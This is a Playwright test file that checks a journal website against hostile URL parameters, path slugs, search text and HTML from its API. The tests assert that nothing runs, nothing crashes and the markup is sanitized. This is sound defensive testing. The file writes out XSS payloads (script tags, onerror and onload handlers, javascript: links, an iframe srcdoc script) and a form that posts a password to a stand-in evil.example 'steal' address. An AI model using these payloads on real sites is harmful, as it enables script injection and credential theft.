import { expect, test, type Page } from '@playwright/test';
import { sampleRecords, type SampleRecords } from '../support/journalApi.ts';
import { guardPage, type PageGuards } from '../support/pageGuards.ts';
import { conferenceLink } from '@journal/shared/routes';

/**
 * Hostile values in every parameter of every route that takes one (docs/sections.md): query values and path
 * slugs that are not numbers, out of range, fractional, unicode, markup, javascript: addresses, NUL,
 * broken %-escapes, repeated or 10,000 characters long. The site server answers them without a 5xx
 * and without echoing markup; in the browser nothing runs, nothing crashes, and the reader sees what
 * the page does for a value it cannot use: a number it cannot read is treated as missing (a list
 * without its selection goes back to its index, a details page says Not Found, a page number falls
 * back to 1), a text value is shown as text or ignored.
 */

/** Values as they appear in the address (already %-encoded where a browser would encode them). */
const hostileValues: Array<[label: string, raw: string]> = [
  ['not a number', 'abc'],
  ['negative', '-1'],
  ['zero', '0'],
  ['1e308', '1e308'],
  ['20 digits', '99999999999999999999'],
  ['fractional', '2.5'],
  ['RTL and emoji', encodeURIComponent('\u202Eمرحبا 🦄📚')],
  ['script tag', encodeURIComponent('<script>alert(1)</script>')],
  ['img onerror', encodeURIComponent('"><img src=x onerror=alert(1)>')],
  ['javascript: address', encodeURIComponent('javascript:alert(1)')],
  ['NUL', '%00'],
  ['broken %-escape', '%E0%A4%A'],
  ['10k characters', 'a'.repeat(10_000)],
];
const MARKUP = encodeURIComponent('<script>window.__pwned=1</script>');

type Expectation = string | RegExp;
interface RouteCase {
  name: string;
  /** The route with readable values; `{slug}` is a path parameter. */
  path: (records: SampleRecords) => string;
  /** Query parameters whose unreadable value means "nothing chosen" (the page's fallback shows). */
  keys?: string[];
  /** Query parameters an unreadable value of which is ignored or shown as text (the page itself shows). */
  tolerant?: string[];
  /** The slug in the path is hostile: the page says it found nothing (or, for tags, names the text). */
  slug?: boolean;
  /**
   * A key for which 0 is a value: issue 0 is a volume's continuous issue, and a volume without one falls
   * back to its first issue like any issue it lacks (docs/sections.md).
   */
  zeroReads?: { key: string; expected: (records: SampleRecords) => Expectation };
  /** The h1 with readable values, and when a key is unreadable. */
  valid: (records: SampleRecords) => Expectation;
  fallback: Expectation;
}

const issueQuery = ({ paper }: SampleRecords) =>
  `year=${paper.year}&volume=${paper.volume}&issue=${paper.issue}&page=1`;
/** The two issue lists read the same keys and differ only in their base and their index's heading. */
const issueListCase = (base: 'archives' | 'current-issue', name: string, fallback: string): RouteCase => ({
  name,
  path: (r) => `/${base}/paperlist?${issueQuery(r)}`,
  keys: ['year', 'volume', 'issue'],
  tolerant: ['page'],
  valid: ({ paper }) => `Volume ${paper.volume}, Issue ${paper.issue} (${paper.year})`,
  zeroReads: {
    key: 'issue',
    expected: ({ paper }) => new RegExp(`^Volume ${paper.volume}, Issue \\d+ \\(${paper.year}\\)$`),
  },
  fallback,
});
const routes: RouteCase[] = [
  issueListCase('archives', 'archive paper list', 'Archives'),
  issueListCase('current-issue', 'current issue paper list', 'Current Issue'),
  {
    name: 'archive paper details',
    path: ({ paper }) => `/archives/paper-details?paperid=${paper.id}&papertitle=x&section=FullArticle`,
    keys: ['paperid'],
    tolerant: ['papertitle', 'section'],
    valid: ({ paper }) => paper.title,
    fallback: 'Paper Not Found',
  },
  {
    name: 'current issue paper details',
    path: ({ paper }) => `/current-issue/paper-details?paperid=${paper.id}&papertitle=x`,
    keys: ['paperid'],
    tolerant: ['papertitle'],
    valid: ({ paper }) => paper.title,
    fallback: 'Paper Not Found',
  },
  {
    name: 'thesis list',
    path: ({ thesis }) => `/thesis/paperlist?year=${thesis.year}&volume=${thesis.volume}&page=1`,
    keys: ['year', 'volume'],
    tolerant: ['page'],
    valid: ({ thesis }) => `Volume ${thesis.volume}, Year ${thesis.year}`,
    fallback: /Thesis/,
  },
  {
    name: 'thesis details',
    path: ({ thesis }) => `/thesis/paper-details?paperid=${thesis.id}&papertitle=x`,
    keys: ['paperid'],
    tolerant: ['papertitle'],
    valid: ({ thesis }) => thesis.title,
    fallback: 'Thesis Not Found',
  },
  {
    name: 'conference paper list',
    path: ({ conference }) => `${conferenceLink(conference)}&page=1`,
    keys: ['id'],
    tolerant: ['name', 'year', 'volume', 'issue', 'page'],
    valid: ({ conference }) => conference.name,
    fallback: 'Published Conferences',
  },
  {
    name: 'conference paper details',
    path: ({ conferencePaper }) => `/conference/paper-details?paperid=${conferencePaper.id}&papertitle=x`,
    keys: ['paperid'],
    tolerant: ['papertitle'],
    valid: ({ conferencePaper }) => conferencePaper.title,
    fallback: 'Conference Paper Not Found',
  },
  { name: 'blog list', path: () => '/blogs?page=1', tolerant: ['page'], valid: () => /Blog/, fallback: /Blog/ },
  {
    name: 'ethics',
    path: () => '/ethics?target=plagiarism-policy',
    tolerant: ['target'],
    valid: () => /Ethics/,
    fallback: /Ethics/,
  },
  { name: 'topic', path: () => '/topics/{slug}', slug: true, valid: () => '', fallback: 'Topic Not Found' },
  { name: 'blog post', path: () => '/blogs/{slug}', slug: true, valid: () => '', fallback: 'Page Not Found' },
  {
    name: 'editorial board member',
    path: () => '/editorial-board/{slug}',
    slug: true,
    valid: () => '',
    fallback: 'Member Not Found',
  },
  { name: 'tag', path: () => '/tag/{slug}', slug: true, valid: () => '', fallback: /\S/ },
];

/** The route's address with one parameter replaced by a raw (already encoded) value. */
function withValue(path: string, param: string, raw: string): string {
  const [pathname, query = ''] = path.split('?');
  const pairs = query.split('&').map((pair) => (pair.split('=')[0] === param ? `${param}=${raw}` : pair));
  return `${pathname}?${pairs.join('&')}`;
}

interface Attempt {
  label: string;
  url: string;
  expected: Expectation;
}

/** Every hostile address of a route, with the h1 the reader should get. */
function attempts(route: RouteCase, records: SampleRecords): Attempt[] {
  const path = route.path(records);
  if (route.slug) {
    return hostileValues.map(([label, raw]) => ({ label, url: path.replace('{slug}', raw), expected: route.fallback }));
  }
  const valid = route.valid(records);
  const list: Attempt[] = [];
  for (const param of route.keys ?? []) {
    for (const [label, raw] of hostileValues) {
      const read = route.zeroReads?.key === param && raw === '0';
      list.push({
        label: `${param}: ${label}`,
        url: withValue(path, param, raw),
        expected: read ? route.zeroReads!.expected(records) : route.fallback,
      });
    }
  }
  for (const param of route.tolerant ?? []) {
    for (const [label, raw] of hostileValues)
      list.push({ label: `${param}: ${label}`, url: withValue(path, param, raw), expected: valid });
  }
  // Repeated parameters: the first one counts, so a readable first value wins over markup after it.
  for (const param of [...(route.keys ?? []), ...(route.tolerant ?? [])].slice(0, 2)) {
    const value = new URLSearchParams(path.split('?')[1]).get(param)!;
    list.push({
      label: `${param}: repeated`,
      url: withValue(path, param, `${encodeURIComponent(value)}&${param}=${MARKUP}`),
      expected: valid,
    });
  }
  return list;
}

/**
 * Markup that must never reach a page unescaped, whatever the address carried: the tags themselves
 * (escaped, "onerror=alert(1)" is only text inside an attribute or element, which is fine).
 */
const UNESCAPED = [/<script>(alert|window)/i, /<img src=x/i, /href="javascript:/i];

let records: SampleRecords;
test.beforeAll(async ({ request }) => {
  records = await sampleRecords(request);
});

test('the site server answers every hostile address with a 2xx or 4xx page that echoes no markup', async ({
  request,
}) => {
  test.setTimeout(120_000);
  const failures: string[] = [];
  for (const route of routes) {
    for (const { label, url } of attempts(route, records)) {
      const answer = await request.get(url, { maxRedirects: 0 });
      const body = await answer.text();
      const what = `${route.name}, ${label}: ${answer.status()}`;
      if (![200, 400, 404].includes(answer.status())) failures.push(`${what} (status)`);
      if (!answer.headers()['content-security-policy']) failures.push(`${what} (no CSP)`);
      for (const pattern of UNESCAPED) if (pattern.test(body)) failures.push(`${what} (echoes ${pattern})`);
    }
  }
  expect(failures).toEqual([]);
});

async function navigate(page: Page, url: string) {
  await page.evaluate((to) => {
    window.history.pushState({}, '', to);
    window.dispatchEvent(new PopStateEvent('popstate'));
  }, url);
}

async function expectSafePage(page: Page, guards: PageGuards, expected: Expectation, what: string) {
  const main = page.locator('main');
  const heading = main.getByRole('heading', { level: 1 });
  await expect(main.getByRole('status').filter({ hasText: 'Please wait' }), what).toHaveCount(0, { timeout: 10_000 });
  if (typeof expected === 'string' && expected !== '') await expect(heading.first(), what).toContainText(expected);
  else await expect(heading.first(), what).toHaveText(expected || /\S/);
  await expect(main, what).not.toContainText('Something Went Wrong');
  expect(await page.locator('img[src="x"], [onerror], [onload]').count(), what).toBe(0);
  expect(await guards.pwned(), what).toBeUndefined();
  expect(guards.dialogs, what).toEqual([]);
  expect(guards.pageErrors, what).toEqual([]);
}

for (const route of routes) {
  test(`${route.name}: hostile values show a clear page, run nothing and crash nothing`, async ({ page }) => {
    test.setTimeout(180_000);
    const guards = await guardPage(page);
    const start = route.path(records).replace('{slug}', 'no-such-slug');
    await page.goto(start);
    await expect(page.locator('main').getByRole('heading', { level: 1 }).first()).toBeVisible();
    // The addresses below are reached through the history API, as the app's own links do; only once the
    // app has hydrated the server's frame (Menu then announces its dialog) does the app take them, where
    // a history change during hydration makes React draw the frame anew (docs/architecture.md).
    await expect(page.locator('header summary[aria-haspopup="dialog"]')).toHaveCount(1);
    for (const { label, url, expected } of attempts(route, records)) {
      // Between two addresses of the same route, a neutral page: the check below never sees the last page's heading.
      await navigate(page, '/aim-and-scope');
      await expect(page.locator('main').getByRole('heading', { level: 1 }).first()).toHaveText(/Aim/);
      await navigate(page, url);
      await expectSafePage(page, guards, expected, `${route.name}, ${label}`);
    }
    // A first visit straight to a hostile address (the server's page, then the app) behaves the same.
    const [label, raw] = hostileValues[8]!;
    const first = attempts(route, records).find(
      (attempt) => attempt.label.endsWith(label) && attempt.url.includes(raw),
    )!;
    await page.goto(first.url);
    await expectSafePage(page, guards, first.expected, `${route.name}, first visit, ${label}`);
  });
}

/** HTML an attacker would like the API to carry; every line also has plain words that must still show. */
const HOSTILE_HTML = [
  '<p>Opening words.</p><script>window.__pwned = "script"</script>',
  '<p onmouseover="window.__pwned=\'handler\'">Handler words.</p>',
  '<p><a href="javascript:window.__pwned=\'link\'">Link words</a></p>',
  '<iframe srcdoc="<script>parent.__pwned=\'frame\'</script>"></iframe>',
  '<svg onload="window.__pwned=\'svg\'"><circle r="4"/></svg>',
  '<p style="background:url(https://evil.example/x.png)">Styled words.</p>',
  '<img src="https://evil.example/t.gif" alt="tracker"><img src="x" onerror="window.__pwned=\'img\'">',
  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
  '<p><a href="https://example.org/" target="_blank">External words</a></p>',
  '<details open ontoggle="alert(1)"><summary>Toggle words</summary></details>',
].join('');

test('topic and blog HTML from the API is sanitized: the words show, nothing runs', async ({ page }) => {
  const guards = await guardPage(page);
  await page.route('**/api/blogDetails', async (route) => {
    const answer = await route.fetch();
    const json = await answer.json();
    json.blog.content = HOSTILE_HTML;
    await route.fulfill({ response: answer, json });
  });
  await page.route('**/api/topics', async (route) => {
    const answer = await route.fetch();
    const json = await answer.json();
    for (const topics of Object.values<Array<{ slug: string; content: string }>>(json.data.data)) {
      for (const topic of topics) if (topic.slug === records.topicSlug) topic.content = HOSTILE_HTML;
    }
    await route.fulfill({ response: answer, json });
  });

  for (const path of [`/blogs/${records.blogSlug}`, `/topics/${records.topicSlug}`]) {
    await page.goto(path);
    const article = page.locator('[data-section="info"]');
    for (const words of [
      'Opening words.',
      'Handler words.',
      'Link words',
      'Styled words.',
      'External words',
      'Toggle words',
    ]) {
      await expect(article.getByText(words), `${path}: ${words}`).toBeVisible();
    }
    await article.getByText('Handler words.').hover();
    await article.getByText('Link words').click();
    await page.waitForLoadState('networkidle');
    // The sanitized content is the element holding the first paragraph.
    const content = article.getByText('Opening words.').locator('xpath=..');
    expect(
      await content
        .locator('script, iframe, svg, form, input, [onerror], [onload], [onmouseover], [style], a[href^="javascript"]')
        .count(),
      path,
    ).toBe(0);
    await expect(article.getByRole('link', { name: 'External words' })).toHaveAttribute('rel', 'noopener noreferrer');
    expect(await guards.pwned(), path).toBeUndefined();
    expect(guards.dialogs, path).toEqual([]);
    expect(guards.pageErrors, path).toEqual([]);
    // Removed before the CSP had anything to block: the foreign image never loads, no script or frame is
    // fetched. (Chromium does report the handler and style attributes when DOMPurify parses the raw HTML
    // in its inert document, as script-src-attr and style-src-attr: nothing runs there, and nothing of it
    // reaches the page, as checked above.)
    expect(
      guards.violations.filter((text) => !/-attr\b|inline event handler|inline style/.test(text)),
      path,
    ).toEqual([]);
  }
});

test('hostile search text finds nothing, runs nothing and crashes nothing', async ({ page }) => {
  test.setTimeout(90_000);
  const guards = await guardPage(page);
  const { paper, thesis, conference: c } = records;
  const lists = [
    `/archives/paperlist?year=${paper.year}&volume=${paper.volume}&issue=${paper.issue}`,
    `/thesis/paperlist?year=${thesis.year}&volume=${thesis.volume}`,
    conferenceLink(c),
  ];
  const texts = [
    '"><img src=x onerror=alert(1)>',
    '<script>window.__pwned=1</script>',
    '\u202Eمرحبا 🦄 %E0%A4%A \u0000',
    'x'.repeat(500),
  ];
  for (const path of lists) {
    await page.goto(path);
    for (const text of texts) {
      const what = `${path}: ${text.slice(0, 30)}`;
      const box = page.getByRole('main').locator('form[role="search"] input');
      await box.fill(text);
      await page.getByRole('main').getByRole('button', { name: 'Search', exact: true }).click();
      // docs/sections.md: a search that matches nothing says No Paper Found (the text is a search, never markup).
      await expect(page.locator('main').getByText('No Paper Found', { exact: true }), what).toBeVisible();
      await expect(page.locator('main'), what).not.toContainText('Something Went Wrong');
      expect(await page.locator('img[src="x"], [onerror]').count(), what).toBe(0);
      // Clear returns to the list (and proves the page still answers after the hostile search).
      await page.getByRole('main').getByRole('button', { name: 'Clear', exact: true }).click();
      await expect(page.getByRole('main').getByRole('button', { name: 'Search', exact: true }), what).toBeVisible();
    }
  }
  expect(await guards.pwned()).toBeUndefined();
  expect(guards.dialogs).toEqual([]);
  expect(guards.pageErrors).toEqual([]);
});
